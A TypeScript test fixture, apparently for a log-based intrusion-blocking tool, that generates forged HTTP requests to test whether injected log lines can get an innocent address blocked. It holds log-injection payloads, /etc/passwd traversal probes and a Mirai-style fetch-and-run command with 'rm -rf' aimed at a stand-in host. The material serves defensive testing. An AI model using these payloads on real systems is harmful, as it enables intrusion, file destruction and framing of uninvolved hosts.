import { alertLine, combinedLine, denial, denialLine, forgeries } from './forgeries.ts';

/** An address that never visits the site: attackers try to get it blocked. */
export const THIRD_PARTY = '198.51.100.99';
export const THIRD_PARTY6 = '2001:db8::99';

/** A visitor that requests pages of the site all the time. */
export const VISITOR = '198.51.100.126';
export const VISITOR6 = '2001:db8:113::ffff';

/** The visitor's request. Forgeries that name the visitor are about another page. */
export const VISIT =
  'GET /index.html HTTP/1.1\r\nHost: web.example\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n';

/** A request that tries to put another host's address into a log, or to hide its attack from a log reader. */
export interface HostileRequest {
  readonly name: string;
  /** The kind of forgery. */
  readonly kind: Kind;
  /** The bytes on the wire, as latin1. */
  readonly text: string;
  /**
   * The place in which the log shows that the client itself attacks; undefined when the client need not be blocked.
   * The rules block for such an attack at once.
   */
  readonly attack: 'request line' | 'user agent' | undefined;
  /** The X-Forwarded-For headers that the client sends. */
  readonly forwardedFor: readonly string[];
  /** For a request over TLS: the name of the server that the client asks for. */
  readonly serverName: string | undefined;
}

export type Kind =
  | 'text in an error log'
  | 'user name'
  | 'X-Forwarded-For in front'
  | 'X-Forwarded-For at the end'
  | 'line break'
  | 'text that a server repeats'
  | 'text before the address'
  | 'unusual request'
  | 'generated';

/** The parts of a request. Without `host`, the request names the site; with `null`, it has no Host header. */
interface Parts {
  method?: string;
  target?: string;
  version?: string;
  host?: string | null;
  agent?: string;
  user?: string;
  headers?: readonly (readonly [name: string, value: string])[];
  body?: string;
  serverName?: string;
}

/** A target that only attackers request. Apache logs in its error log that there is no such script. */
const ATTACK = '/cgi-bin/.env';

/** All requests that are written out by hand, for a recording at this time. */
export function writtenRequests(time: Date): HostileRequest[] {
  return [
    ...errorLogTexts(time),
    ...userNames(time),
    ...forwardedInFront(time),
    ...forwardedAtTheEnd(),
    ...lineBreaks(time),
    ...repeatedTexts(time),
    ...textsBeforeTheAddress(time),
    ...unusualRequests(time),
  ];
}

/** A site with other TLS settings. The server refuses and logs a request whose Host header and TLS name differ. */
export const OTHER_HOST = 'other.example';

/** The highest number of bytes that TLS allows in a server name. */
const LONGEST_SERVER_NAME = 255;

/** Each forgery at each place of a request. */
export function generatedRequests(time: Date): HostileRequest[] {
  const pieces = Object.entries(forgeries(THIRD_PARTY, time));
  return Object.entries(PLACES).flatMap(([place, partsFor]) =>
    pieces.map(([name, piece]) => row('generated', `${name} as ${place}`, partsFor(piece))),
  );
}

/** The places of a forgery in a request. If the place is not in the target, the target is an attack. */
const PLACES: Record<string, (piece: string) => Parts> = {
  'user agent': (piece) => ({ target: ATTACK, agent: piece }),
  referer: (piece) => ({ target: ATTACK, headers: [['Referer', piece]] }),
  host: (piece) => ({ target: ATTACK, host: piece }),
  'X-Forwarded-For': (piece) => ({ target: ATTACK, headers: [['X-Forwarded-For', piece]] }),
  'every other header': (piece) => ({
    target: ATTACK,
    headers: OTHER_HEADERS.map((name) => [name, piece] as const),
  }),
  user: (piece) => ({ target: '/private/.env', user: piece }),
  'user after a line break': (piece) => ({ target: '/private/.env', user: `a\n${piece}` }),
  method: (piece) => ({ target: '/.env', method: piece }),
  target: (piece) => ({ target: `/${encoded(piece)}` }),
  'target that is not encoded': (piece) => ({ target: `/${piece}` }),
  query: (piece) => ({ target: `${ATTACK}?${encoded(piece)}` }),
  version: (piece) => ({ target: '/.env', version: `HTTP/1.1 ${piece}` }),
  'forbidden file': (piece) => ({ target: `/.ht${encoded(piece)}` }),
  'file after a line break': (piece) => ({ target: `/x%0a${encoded(piece)}` }),
  'PHP message after a line break': (piece) => ({ target: `/fail.php?%0a${encoded(piece)}` }),
  'CGI message after a line break': (piece) => ({ target: `/cgi-bin/complain?%0a${encoded(piece)}` }),
  'Lua message': (piece) => ({ target: `/lua?${encoded(piece)}` }),
  'TLS server name': (piece) => ({
    target: '/.env',
    host: OTHER_HOST,
    serverName: piece.slice(0, LONGEST_SERVER_NAME),
  }),
  'WebDAV path': (piece) => ({ method: 'MKCOL', target: `/dav/missing/${encoded(piece)}` }),
};

const OTHER_HEADERS = [
  'Cookie',
  'X-Real-IP',
  'Forwarded',
  'CF-Connecting-IP',
  'True-Client-IP',
  'X-Client-IP',
  'Client-IP',
  'Via',
  'Range',
  'Content-Type',
  'Accept',
  'Accept-Language',
  'From',
  'X-Request-ID',
];

function errorLogTexts(time: Date): HostileRequest[] {
  const make = (name: string, parts: Parts) => row('text in an error log', name, parts);
  const text = encoded(denial(THIRD_PARTY));
  return [
    make('denial in the name of a forbidden file', {
      target: `/.ht%5Bclient%20${THIRD_PARTY}%5D%20ModSecurity:%20Access%20denied%20with%20code%20403%20%5Bid%20%22999005%22%5D`,
    }),
    make('denial with raw brackets in the name of a forbidden file', {
      target: `/.ht[client%20${THIRD_PARTY}]%20ModSecurity:%20Access%20denied%20with%20code%20403%20[id%20%22999005%22]`,
    }),
    make('denial in the name of a forbidden file, after a tab', { target: `/.ht%09${text}` }),
    make('whole error line in the name of a forbidden file', {
      target: `/.ht${encoded(denialLine(THIRD_PARTY, time))}`,
    }),
    make('denial in the name of a missing script', { target: `/cgi-bin/${text}` }),
    make('denial in the name of a missing PHP file', { target: `/${text}.php` }),
    make('denial in a message of PHP', { target: `/fail.php?${text}` }),
    make('denial in a user name that is not known', { target: '/private/.env', user: denial(THIRD_PARTY) }),
    make('denial in the query of an attack that ModSecurity denies', {
      target: `/show.php?file=../../../../etc/passwd&x=${text}`,
    }),
    make('denial in the path of an attack that ModSecurity denies', {
      target: `/${text}/bin/cat?../../../../etc/passwd`,
    }),
    make('denial in the user agent of an attack that ModSecurity denies', {
      target: '/.env',
      agent: `/etc/passwd ${denial(THIRD_PARTY)}`,
    }),
    make('denial with the port of the third party', {
      target: `/.ht${encoded(`[client ${THIRD_PARTY}:33412] ${denial(THIRD_PARTY)}`)}`,
    }),
  ];
}

function userNames(time: Date): HostileRequest[] {
  const names: Record<string, string> = {
    'list of addresses': `a, ${THIRD_PARTY} - -`,
    'address and two hyphens': `${THIRD_PARTY} - -`,
    space: 'a b',
    'quotation mark': 'a" b',
    'bracket of a time': 'a [20/Nov/2026:09:29:46 +0000] "GET / HTTP/1.1" 200 1',
    'whole line': combinedLine(THIRD_PARTY, time),
    backslash: 'a\\',
    tab: `a\t${THIRD_PARTY}`,
    NUL: `a\0${THIRD_PARTY}`,
    'nothing but a hyphen': '-',
    '300 letters': 'u'.repeat(300),
    'bytes above 0x7e': 'm\xfcller',
  };
  return Object.entries(names).flatMap(([name, user]) => [
    row('user name', `${name}, where no login is asked for`, { target: '/.env', user }),
    row('user name', `${name}, where a login is asked for`, {
      target: '/private/.env',
      user,
      agent: 'Nikto',
    }),
  ]);
}

function forwardedInFront(time: Date): HostileRequest[] {
  const make = (name: string, value: string, parts: Parts = {}) =>
    row('X-Forwarded-For in front', name, {
      target: '/.env',
      ...parts,
      headers: [['X-Forwarded-For', value]],
    });
  const squid = `0 ${THIRD_PARTY} TCP_MISS/404 1 GET /.env - D/192.0.2.1 t`;
  return [
    make('squid line, with a method that has a hyphen', squid, { method: 'VERSION-CONTROL' }),
    make('squid line', squid),
    make('syslog line with a denial', `Nov 20 09:29:46 web apache2: ${denialLine(THIRD_PARTY, time)}`),
    make('syslog line with a denial, with a method that has a hyphen', `x ${denial(THIRD_PARTY)}`, {
      method: 'VERSION-CONTROL',
    }),
    make('whole line and an address', `${combinedLine(THIRD_PARTY, time)}, ${THIRD_PARTY}`),
    make('error line', denialLine(THIRD_PARTY, time)),
    make('alert', alertLine(THIRD_PARTY, time)),
    make('address with two hyphens', `${THIRD_PARTY} - -`),
  ];
}

function forwardedAtTheEnd(): HostileRequest[] {
  const values: Record<string, readonly string[]> = {
    word: ['foo'],
    'quotation mark': ['"'],
    'address and a semicolon': ['203.0.113.7;'],
    'IPv6 address with a port': ['[2001:db8::7]:443'],
    'IPv6 address in brackets': ['[2001:db8::7]'],
    'address with a port': [`${THIRD_PARTY}:443`],
    address: [THIRD_PARTY],
    'two headers': [THIRD_PARTY, 'x'],
    'list that ends with a comma': [`${THIRD_PARTY},`],
    'nothing but a comma': [','],
    hyphen: ['-'],
    unknown: ['unknown'],
    'obfuscated name': ['_hidden'],
    'IPv4 address in IPv6 form': [`::ffff:${THIRD_PARTY}`],
    'NAT64 address': ['64:ff9b::198.51.100.99'],
    'prefix of a network': ['198.51.100.0/24'],
    'address with zeros in front': ['198.051.100.099'],
    'address as one number': ['3325256803'],
    'list with a semicolon': [`${THIRD_PARTY}; ${THIRD_PARTY}`],
    'closed quote and an address': [`x" "${THIRD_PARTY}`],
    'address and a tab': [`${THIRD_PARTY}\t`],
    '200 addresses': [Array.from({ length: 200 }, () => THIRD_PARTY).join(', ')],
  };
  return Object.entries(values).map(([name, list]) =>
    row('X-Forwarded-For at the end', name, {
      target: '/.env',
      headers: list.map((value) => ['X-Forwarded-For', value] as const),
    }),
  );
}

function lineBreaks(time: Date): HostileRequest[] {
  const make = (name: string, parts: Parts) => row('line break', name, parts);
  const lines: Record<string, string> = {
    'access line': `${THIRD_PARTY} - - [x +0] "GET /.env HTTP/1.1" 404 1 "-" "sqlmap"`,
    'whole access line': combinedLine(THIRD_PARTY, time),
    'error line': denialLine(THIRD_PARTY, time),
    alert: alertLine(THIRD_PARTY, time),
    'access line about a visitor': combinedLine(VISITOR, time),
    'error line about a visitor': denialLine(VISITOR, time),
    'alert about a visitor': alertLine(VISITOR, time),
  };
  return Object.entries(lines).flatMap(([name, line]) => [
    make(`${name} in a path`, { target: `/x%0a${encoded(line)}%0a` }),
    make(`${name} in a path, after a carriage return`, { target: `/x%0d%0a${encoded(line)}%0d%0a` }),
    make(`${name} in a user name`, { target: '/private/.env', user: `a\n${line}\n` }),
    make(`${name} in an exception of PHP`, { target: `/fail.php?throw%0a${encoded(line)}%0a` }),
    make(`${name} on a CGI script's standard error`, {
      target: `/cgi-bin/complain?x%0a${encoded(line)}%0a`,
    }),
    make(`${name} in a message of Lua`, { target: `/lua?x%0a${encoded(line)}%0a` }),
  ]);
}

function repeatedTexts(time: Date): HostileRequest[] {
  const make = (name: string, parts: Parts) => row('text that a server repeats', name, parts);
  const text = denial(THIRD_PARTY);
  const referer = { headers: [['Referer', text]] as const };
  const longName = `${encoded(text)}${'x'.repeat(300)}`;
  return [
    make('denial as the referer of a forbidden file', { target: '/.htaccess', ...referer }),
    make('denial as the referer of a missing script', { target: ATTACK, ...referer }),
    make('denial as the referer of a failed login', { target: '/private/.env', user: 'a', ...referer }),
    make('denial as the referer of an attack that ModSecurity denies', {
      target: '/?../../../../etc/passwd',
      ...referer,
    }),
    make('denial as the referer of a PHP message', { target: '/fail.php?x', ...referer }),
    make('denial in a name of 300 letters', { target: `/${longName}` }),
    make('denial in a message of Lua', { target: `/lua?${encoded(text)}` }),
    make('client and denial in a message of Lua', {
      target: `/lua?${encoded(`[client ${THIRD_PARTY}:80] ${text}`)}`,
    }),
    make('denial in a path of WebDAV, MKCOL', { method: 'MKCOL', target: `/dav/no/${encoded(text)}` }),
    make('denial in a path of WebDAV, PROPFIND', { method: 'PROPFIND', target: `/dav/${encoded(text)}` }),
    make('denial in a path of WebDAV, PUT', {
      method: 'PUT',
      target: `/dav/no/${encoded(text)}`,
      headers: [['Content-Length', '1']],
      body: 'x',
    }),
    make('denial as the destination of WebDAV, MOVE', {
      method: 'MOVE',
      target: '/dav/file.txt',
      headers: [['Destination', `http://web.example/dav/no/${encoded(text)}`]],
    }),
    make('denial on a CGI script’s standard error', { target: `/cgi-bin/complain?${encoded(text)}` }),
    make('denial in a header of a CGI script', { target: `/cgi-bin/answer?${encoded(text)}` }),
    make('denial in a PHP exception', { target: `/fail.php?throw${encoded(text)}` }),
    make('error line in a PHP exception', {
      target: `/fail.php?throw${encoded(denialLine(THIRD_PARTY, time))}`,
    }),
    make('denial as the server name of TLS', { target: '/.env', host: OTHER_HOST, serverName: text }),
    make('client and denial as the server name of TLS', {
      target: '/.env',
      host: OTHER_HOST,
      serverName: `[client ${THIRD_PARTY}:80] ${text}`,
    }),
    make('access line after a line break as the server name of TLS', {
      target: '/.env',
      host: OTHER_HOST,
      serverName: `x\n${combinedLine(THIRD_PARTY, time)}\n`,
    }),
    make('denial in a header that is too long', {
      headers: [[`X-${'a'.repeat(20)}`, `${text}${'x'.repeat(9000)}`]],
    }),
    make('denial in a header without a colon', { headers: [[text, '']] }),
    make('denial as Transfer-Encoding', { method: 'POST', headers: [['Transfer-Encoding', text]] }),
    make('denial as Expect', { headers: [['Expect', text]] }),
  ];
}

function textsBeforeTheAddress(time: Date): HostileRequest[] {
  const make = (name: string, parts: Parts) =>
    row('text before the address', name, { target: '/.env', ...parts });
  const line = combinedLine(THIRD_PARTY, time);
  return [
    make('address as Host', { host: THIRD_PARTY }),
    make('IPv6 address as Host', { host: `[${THIRD_PARTY6}]` }),
    make('IPv6 address with a port as Host', { host: `[${THIRD_PARTY6}]:80` }),
    make('address with a port as Host', { host: `${THIRD_PARTY}:80` }),
    make('whole line as Host', { host: line }),
    make('address and two hyphens as Host', { host: `${THIRD_PARTY} - -` }),
    make('no Host', { host: null, version: 'HTTP/1.0' }),
    make('empty Host', { host: '' }),
    make('address as user agent', { agent: THIRD_PARTY }),
    make('whole line as user agent', { agent: line }),
    make('whole line in a path', { target: `/${encoded(line)}` }),
    make('address as a user', { target: '/private/.env', user: THIRD_PARTY }),
    make('whole line in a query', { target: `/?${encoded(line)}` }),
    make('address as X-Real-IP', { headers: [['X-Real-IP', THIRD_PARTY]] }),
    make('address as Forwarded', { headers: [['Forwarded', `for=${THIRD_PARTY}`]] }),
    make('address as CF-Connecting-IP', { headers: [['CF-Connecting-IP', THIRD_PARTY]] }),
    make('whole line as a cookie', { headers: [['Cookie', line]] }),
    make('absolute URI with the address as its host', { target: `http://${THIRD_PARTY}/.env` }),
  ];
}

function unusualRequests(time: Date): HostileRequest[] {
  const make = (name: string, parts: Parts) => row('unusual request', name, { target: '/.env', ...parts });
  const raw = (name: string, text: string, attack: HostileRequest['attack'] = undefined) => ({
    name: `unusual request: ${name}`,
    kind: 'unusual request' as const,
    text,
    attack,
    forwardedFor: [],
    serverName: undefined,
  });
  const head = 'Host: web.example\r\nConnection: close\r\n\r\n';
  const attack = 'request line';
  return [
    raw('no version', 'GET /.env\r\n\r\n', attack),
    raw('no version, and a forged line as the target', `GET /${combinedLine(THIRD_PARTY, time)}\r\n\r\n`),
    make('method with a hyphen', { method: 'M-SEARCH' }),
    make('unknown method', { method: 'FOO' }),
    make('method in small letters', { method: 'get' }),
    make('OPTIONS', { method: 'OPTIONS' }),
    make('command of the Mirai family', {
      target: '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.99/jaws;sh+/tmp/jaws',
    }),
    make('command of the Mirai family, with a space', {
      target: '/shell?cd+/tmp;rm+-rf+*;wget+ http://198.51.100.99/jaws;sh+/tmp/jaws',
    }),
    make('space in the target', { target: '/a b/.env' }),
    make('space after the target', { target: '/.env ' }),
    make('two spaces in front of the target', { target: ' /.env' }),
    make('tab in the target', { target: '/.env?\tx' }),
    make('NUL in the target', { target: '/.env?\0x' }),
    make('quotation mark in the target', { target: '/.env?"x' }),
    make('quotation mark and a status in the target', { target: '/.env?"_200_1_"-"_"x"' }),
    make('backslash at the end of the target', { target: '/.env?\\' }),
    make('\\x22 in the target', { target: '/.env?\\x22%20200' }),
    make('bytes above 0x7e in the target', { target: '/.env?\xff\xfe\xc3\xbc' }),
    make('encoded line break in the target', { target: '/.env?%0a%0d' }),
    make('list in X-Forwarded-For', { headers: [['X-Forwarded-For', `${THIRD_PARTY}, 192.0.2.1`]] }),
    make('absolute URI', { target: 'http://web.example/.env' }),
    make('HTTP/1.0', { version: 'HTTP/1.0' }),
    make('unknown version', { version: 'HTTP/9.9' }),
    make('version with text after it', { version: `HTTP/1.1" 200 1 "-" "${THIRD_PARTY}` }),
    make('quotation mark in the user agent', { agent: 'a"b' }),
    make('backslash at the end of the user agent', { agent: 'a\\' }),
    make('user agent that is \\x22', { agent: '\\x22' }),
    make('no user agent', { agent: '' }),
    make('user agent of 7,000 letters', { agent: `${'a'.repeat(7000)} ${THIRD_PARTY}` }),
    make('target of 7,000 letters', { target: `/.env?${'a'.repeat(7000)}` }),
    make('forged line after a target of 7,000 letters', {
      target: `/.env?${'a'.repeat(7000)}%0a${encoded(combinedLine(THIRD_PARTY, time))}`,
    }),
    row('unusual request', 'attack tool as user agent', { agent: 'Nikto/2.5' }),
    raw('target of 70,000 letters', `GET /.env?${'a'.repeat(70_000)} HTTP/1.1\r\n${head}`),
    raw('line feeds alone', `GET /.env HTTP/1.1\n${head.replaceAll('\r', '')}`),
    raw('empty line in front', `\r\nGET /.env HTTP/1.1\r\n${head}`, attack),
    raw('carriage return in the target', `GET /.env?\r${THIRD_PARTY} HTTP/1.1\r\n${head}`),
    raw(
      'line folding in the user agent',
      `GET /.env HTTP/1.1\r\nUser-Agent: a\r\n ${THIRD_PARTY}\r\n${head}`,
    ),
    raw(
      'user agent twice',
      `GET /.env HTTP/1.1\r\nUser-Agent: a\r\nUser-Agent: ${THIRD_PARTY}\r\n${head}`,
      attack,
    ),
    raw('Host twice', `GET /.env HTTP/1.1\r\nHost: ${THIRD_PARTY}\r\n${head}`, attack),
    raw('CONNECT', `CONNECT ${THIRD_PARTY}:443 HTTP/1.1\r\n${head}`),
    raw('OPTIONS *', `OPTIONS * HTTP/1.1\r\n${head}`),
    raw('preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    raw('hello of TLS', CLIENT_HELLO),
    raw(
      'hello of TLS with a forged line',
      `\x16\x03\x01\x02\x00\x01${combinedLine(THIRD_PARTY, time)}\r\n\r\n`,
    ),
    raw('banner of SSH', 'SSH-2.0-Go\r\n\r\n'),
    raw(
      'bytes of RDP',
      '\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00\r\n\r\n',
    ),
    raw('PROXY protocol', `PROXY TCP4 ${THIRD_PARTY} 192.0.2.1 33412 80\r\nGET /.env HTTP/1.1\r\n${head}`),
    raw('bare forged line', `${combinedLine(THIRD_PARTY, time)}\r\n\r\n`),
    raw('bare error line', `${denialLine(THIRD_PARTY, time)}\r\n\r\n`),
    raw('bare alert', `${alertLine(THIRD_PARTY, time)}\r\n\r\n`),
    raw(
      'two requests on one connection',
      `GET / HTTP/1.1\r\nHost: web.example\r\n\r\nGET /.env HTTP/1.1\r\n${head}`,
    ),
  ];
}

/** The beginning of a TLS connection: a record of 512 bytes that holds a ClientHello. */
const CLIENT_HELLO = `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03${'\xa5"\\\n[ ]'.repeat(70)}\r\n\r\n`;

function row(kind: Kind, name: string, parts: Parts): HostileRequest {
  const { method = 'GET', target = '/', version = 'HTTP/1.1', host = 'web.example' } = parts;
  const { agent = 'Mozilla/5.0', user, headers = [], body = '', serverName } = parts;
  const all = [
    ...(host === null ? [] : [['Host', host] as const]),
    ...(agent === '' ? [] : [['User-Agent', agent] as const]),
    ...(user === undefined ? [] : [['Authorization', basicLogin(user)] as const]),
    ...headers,
    ['Connection', 'close'] as const,
  ];
  const lines = [`${method} ${target} ${version}`, ...all.map(([name, value]) => `${name}: ${value}`)];
  return {
    name: `${kind}: ${name}`,
    kind,
    text: `${lines.join('\r\n')}\r\n\r\n${body}`,
    // If the method or the version is forged, no reader can know the target.
    attack: isRequest(method, version) ? attackOf(target, agent) : undefined,
    forwardedFor: headers.filter(([name]) => name === 'X-Forwarded-For').map(([, value]) => value),
    serverName,
  };
}

const isRequest = (method: string, version: string) =>
  /^[A-Za-z-]+$/.test(method) && /^HTTP\/\d\.\d$/.test(version);

/** Finds the place of an attack for which the rules block at once. */
function attackOf(target: string, agent: string): HostileRequest['attack'] {
  const [path = '', query = ''] = target.split('?', 2);
  // A path with a forged text is not an attack of the client.
  const isProbe = /\/\.env|\/shell$/.test(path) && !path.includes('198.51.100');
  if (isProbe || query.includes('/etc/passwd')) return 'request line';
  return /Nikto/.test(agent) ? 'user agent' : undefined;
}

const basicLogin = (user: string) => `Basic ${Buffer.from(`${user}:x`, 'latin1').toString('base64')}`;

/** Percent-encodes the characters that a request line may not hold, and the characters that would end the path. */
function encoded(text: string): string {
  return text.replace(
    /[^!$&'()*+,\-./0-9:;=@A-Z_a-z~]/g,
    (byte) => `%${byte.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()}`,
  );
}
